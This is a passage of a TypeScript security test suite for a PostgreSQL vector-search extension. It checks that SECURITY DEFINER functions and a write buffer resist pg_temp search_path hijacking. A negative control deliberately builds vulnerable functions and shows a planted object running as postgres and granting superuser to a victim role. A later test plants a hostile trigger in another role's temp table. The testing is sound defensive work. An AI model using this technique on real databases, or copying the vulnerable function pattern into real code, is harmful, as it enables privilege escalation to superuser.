            await t.test(target.name, async () => {
              const [runs, notices] = [await evilRuns(s), s.notices.length];
              await target.run(s, `${v}-${role}-${path === 'SET ROLE' ? 'set' : 'rest'}`);
              assert.equal(await evilRuns(s), runs, `evil() ran: ${shown(s.notices.slice(notices))}`);
            });
          }
          // Only the liveness probe ran evil(), as the caller; the caller and the victim are no superusers.
          const h = await hits(s);
          assert.ok(h.length > 0 && h.every((x) => x.who === role && !x.superuser), JSON.stringify(h));
          assert.deepEqual(await rows(s, `SELECT CURRENT_USER::pg_catalog.text AS u, r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = CURRENT_USER`), [
            { u: role, rolsuper: false },
          ]);
        } finally {
          await s.end();
        }
        assert.deepEqual(await superusers(), []);
      });
    }
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Negative control: the same harness sees the attack succeed on functions built the vulnerable way.

test('negative control: through a SECURITY DEFINER function that leaves pg_temp first, evil() runs as postgres and promotes the victim', async (t) => {
  await sql(dbs.primary, `CREATE SCHEMA attack_demo;
    CREATE FUNCTION attack_demo.vulnerable() RETURNS int LANGUAGE plpgsql SECURITY DEFINER SET search_path = ''
      AS $$ DECLARE x text := 'a'; BEGIN RETURN 1; END $$;`);
  // vecscale's own search_docs with both of its defences taken away: search_path = '' and its `sql` variable's type
  // unqualified (`settings text;`, assigned the statement's settings).
  const def = (await sql<{ def: string }>(dbs.primary, `SELECT pg_get_functiondef('vecscale.search_docs'::regproc) AS def`))[0]!.def;
  const regressed = def
    .replace('CREATE OR REPLACE FUNCTION vecscale.search_docs(', 'CREATE FUNCTION attack_demo.search_docs(')
    .replace(/SET search_path TO [^\n]*/, "SET search_path TO ''")
    .replace('settings pg_catalog.text;', 'settings text;');
  assert.notEqual(regressed, def);
  await sql(dbs.primary, regressed);
  await sql(dbs.primary, `GRANT USAGE ON SCHEMA attack_demo TO anon; GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA attack_demo TO anon`);

  const VULNERABLE: ReadonlyArray<readonly [name: string, call: string, values: unknown[], expected: unknown[]]> = [
    ["attack_demo.vulnerable() (search_path = '', DECLARE x text)", `SELECT attack_demo.vulnerable() AS v`, [], [{ v: 1 }]],
    ["attack_demo.search_docs (vecscale.search_docs with search_path = '' and DECLARE settings text)",
      `SELECT id FROM attack_demo.search_docs($1::extensions.vector, 2, '{}'::pg_catalog.jsonb)`, [Q], [{ id: 'a' }, { id: 'b' }]],
  ];
  const text = TYPE_VARIANTS[0]!;
  for (const [name, call, values, expected] of VULNERABLE) {
    for (const path of ['authenticator (set_config role)', 'SET ROLE'] as const) {
      await t.test(`${name} as anon via ${path}`, async () => {
        await resetRows();
        const s = await openSession('anon', path);
        try {
          await plant(s, text);
          const runs = await evilRuns(s);
          // pg_temp is searched first: `text` in the body is the caller's domain, checked as the owner.
          assert.deepEqual(await rows(s, call, values), expected);
          assert.ok((await evilRuns(s)) > runs, 'evil() ran');
          const asOwner = (await hits(s)).filter((h) => h.who === 'postgres');
          assert.ok(asOwner.length > 0 && asOwner.every((h) => h.superuser && h.via.startsWith('domain pg_temp.text')), JSON.stringify(asOwner));
          assert.ok(s.notices.some((n) => /current_user=postgres .* superuser=t/.test(n)), s.notices.join(' | '));
          assert.deepEqual(await superusers(), [VICTIM], 'the victim became superuser');
        } finally {
          await s.end();
          await sql(dbs.primary, `ALTER ROLE "${VICTIM}" NOSUPERUSER`);
        }
        assert.deepEqual(await superusers(), []);
      });
    }
  }
});

// ---------------------------------------------------------------------------------------------------------------
// The write buffer across roles of one pooled session (PostgREST switches roles per request on one connection).

test("another role's pg_temp.vecscale_pending, with a trigger of its own, never runs as the writer: its INSERTs go row by row and land", async () => {
  const rest = await Rest.connect(dbs.primary);
  const notices: string[] = [];
  rest.raw.on('notice', (m) => notices.push(m.message ?? ''));
  const ids = ['xrole-1', 'xrole-2', 'xrole-3'];
  try {
    // anon, in its request, makes the buffer first: a table of the right shape whose trigger reports who fired it.
    await rest.request('anon', true, async () => {
      await rest.raw.query(`CREATE FUNCTION pg_temp.planted() RETURNS pg_catalog.trigger LANGUAGE plpgsql AS $$
        BEGIN RAISE NOTICE 'planted trigger ran as %', CURRENT_USER; RETURN NEW; END $$`);
      await rest.raw.query(`CREATE TEMPORARY TABLE vecscale_pending (collection pg_catalog.text NOT NULL, id pg_catalog.varchar,
        embedding extensions.vector, metadata pg_catalog.jsonb) ON COMMIT DELETE ROWS`);
      await rest.raw.query(`CREATE TRIGGER planted BEFORE INSERT ON pg_temp.vecscale_pending FOR EACH ROW EXECUTE FUNCTION pg_temp.planted()`);
      await rest.raw.query(`GRANT ALL ON pg_temp.vecscale_pending TO PUBLIC`);
    });
    // service_role's next request on the same connection inserts through the API view, one statement of 3 rows.
    await rest.request('service_role', true, async () => {
      await rest.raw.query(`INSERT INTO public.docs (id, embedding, metadata) SELECT i, '[0.5,0.5,0.5]'::extensions.vector, '{}'::pg_catalog.jsonb FROM pg_catalog.unnest($1::pg_catalog.text[]) i`, [ids]);
      assert.equal((await rest.raw.query(`SELECT current_setting('vecscale.write_batch') AS b`)).rows[0].b, 'off');
    });
    assert.deepEqual(notices.filter((n) => n.startsWith('planted trigger ran')), []);
    const landed = await rest.request('service_role', false, async () => (await rest.raw.query(`SELECT id FROM public.docs WHERE id = ANY ($1) ORDER BY id`, [ids])).rows);
    assert.deepEqual(landed.map((r) => r.id), ids);
    // Its own buffer is used once the planted one is gone: the rows still land, in one batch.
    await rest.request('anon', true, async () => void (await rest.raw.query(`DROP TABLE pg_temp.vecscale_pending`)));
    await rest.request('service_role', true, async () => {
      await rest.raw.query(`DELETE FROM public.docs WHERE id = ANY ($1)`, [ids]);
      await rest.raw.query(`INSERT INTO public.docs (id, embedding) SELECT i, '[0.5,0.5,0.5]'::extensions.vector FROM pg_catalog.unnest($1::pg_catalog.text[]) i`, [ids]);
      assert.equal((await rest.raw.query(`SELECT current_setting('vecscale.write_batch') AS b`)).rows[0].b, 'on');
    });
    const again = await rest.request('service_role', false, async () => (await rest.raw.query(`SELECT id FROM public.docs WHERE id = ANY ($1) ORDER BY id`, [ids])).rows);
    assert.deepEqual(again.map((r) => r.id), ids);
    await rest.request('service_role', true, async () => void (await rest.raw.query(`DELETE FROM public.docs WHERE id = ANY ($1)`, [ids])));
  } finally {
    await rest.end();
  }
});
